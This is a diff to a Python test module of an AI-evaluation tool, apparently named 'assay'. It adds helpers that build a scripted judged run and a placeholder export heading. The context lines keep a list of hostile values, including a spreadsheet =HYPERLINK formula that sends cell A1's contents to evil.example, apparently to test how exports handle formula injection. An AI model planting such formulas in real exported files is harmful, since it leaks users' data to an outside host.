@@ -5,10 +5,12 @@ from __future__ import annotations
 from pathlib import Path
 from typing import Any
 
-from assay.exchange.export import read_exported, write_export
+from assay import api
+from assay.decision import Decision
+from assay.exchange.export import Heading, read_exported, write_export
 from assay.runs import RunFile, Trial
 from tests.report.making import reanswered
-from tests.support import make_bundle
+from tests.support import label_all, make_bundle, plan_text
 
 HOSTILE = (
     '=HYPERLINK("http://evil.example/?"&A1;"click here to see it all")',
@@ -54,3 +56,40 @@ def exported(form: str, run: Path, folder: Path, *, transcripts: bool = True) ->
     with read_exported(run, transcripts=transcripts) as opened:
         write_export(form, opened, out, force=True)
     return out.read_bytes()
+
+
+def judged_run(folder: Path, *, labelled: bool) -> Path:
+    """A run whose hazard is judged by a scripted judge, with people's labels taken in or without."""
+    plan = folder / "plan.yaml"
+    folder.mkdir(parents=True)
+    changes: dict[str, Any] = {
+        "matrix": {"hazards": ["hate"], "languages": ["en"], "attacks": []},
+        "requirements": [{"id": "violations", "kind": "violation-rate", "max_rate": 0.1}],
+        "judges": {"panel": [{"name": "known", "target": {"kind": "scripted-judge", "model": "0.9/0.97"}}]},
+        "target": {"kind": "scripted", "model": "0.5"},
+        "budget": {"calls": 40},
+        "exploration": {"plain": 8, "benign": 4},
+    }
+    plan.write_text(plan_text(**changes))
+    key = folder / "key.pem"
+    api.evaluate(str(plan), out=folder / "run", key=key)
+    if labelled:
+        with RunFile.read(folder / "run" / "run.db") as run:
+            assert label_all(run)
+        api.evaluate(out=folder / "run", resume=True, key=key)
+        with RunFile.read(folder / "run" / "run.db") as run:
+            label_all(run)
+        api.evaluate(out=folder / "run", resume=True, key=key)
+    return folder / "run"
+
+
+def heading_with(decision: Decision, bundle: Any) -> Heading:
+    """A heading made up around a decision; as `read_exported` does, an approval without an agreeing bundle is a delay."""
+    verdict = "delay" if decision.verdict == "approve" and bundle != "agrees" else decision.verdict
+    return Heading(
+        plan="p", about="", plan_digest="sha256:00", catalog_digest="sha256:00", run="sha256:00", keyid="00", target="t",
+        target_kind="http", target_digest=("sha256", "00"), opened_at=0, first_at=0, last_at=0, ended="complete",
+        registration="sha256:00", root="sha256:00",
+        items="sha256:00", bundle=bundle, verdict=verdict, decision=decision, approve_error=0.05, halt_error=0.05, cells=(),
+        transcripts=True, version="0",
+    )  # fmt: skip
